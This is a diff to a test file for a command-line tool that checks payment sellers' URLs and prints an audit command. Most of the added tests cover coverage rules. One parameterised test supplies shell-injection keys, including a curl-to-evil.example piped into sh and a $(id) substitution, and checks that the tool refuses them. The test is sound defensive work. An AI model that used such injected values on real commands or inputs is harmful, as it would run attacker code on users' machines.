@@ -168,6 +168,23 @@ describe("a seller's URL", () => {
     expect((await run("https://s.example/", "--at-stake", "1")).code).toBe(0);
   });
 
+  test("is not covered where a price is not known, unless the caller says what is at stake", async () => {
+    const odd = { ...offer, asset: "0x1111111111111111111111111111111111111111" };
+    const much = { ...offer, amount: "12400001" };
+    for (const offers of [[much, odd], [odd]]) {
+      server().answer(json(200, { ...seller, accounts: [{ ...at, offers }] }));
+      const { code, stdout } = await run("https://s.example/");
+      expect([code, stdout]).toEqual([1, expect.stringContaining("not covered: name what is at stake by --at-stake")]);
+      expect((await run("https://s.example/", "--at-stake", "1")).code).toBe(0);
+    }
+  });
+
+  test("is not covered where an entry of its answer was not read: wallets may read and pay it", async () => {
+    const skipped = [{ position: 1, reason: "amount expected a whole number as text" }];
+    server().answer(json(200, { ...seller, skipped }));
+    expect((await run("https://s.example/", "--at-stake", "1")).code).toBe(1);
+  });
+
   test("that is none ends with 2, and the server's words", async () => {
     server().answer(failure(400, "invalid_request"));
     expect(await run("https://s.example/")).toMatchObject({
@@ -185,6 +202,16 @@ test("--audit prints the command that computes it again", async () => {
     `npx -p @arcs/audit -p @arcs/evm arcs-audit --key 'log.example+1+AAAA' --state arcs-audit-127.0.0.1 --once --rpc "eip155:8453=$RPC_URL" ${url}/log`,
   );
 });
+
+test.each(["l+1+A';curl${IFS}evil.example|sh;'", "l+1+$(id)", "+1+AAAA"])(
+  "--audit prints no command with a key that a shell would run: %s",
+  async (key) => {
+    server().answer(json(200, check), (response) => void response.end(key));
+    const { code, stdout, stderr } = await run(account, "--audit");
+    expect([code, stdout]).toEqual([2, ""]);
+    expect(stderr).toContain("/log/key expected the key of a log, got something else");
+  },
+);
 
 const mistakes: readonly Mistake[] = [
   ["check", "an account, the id of an agent or an https URL expected; see --help"],
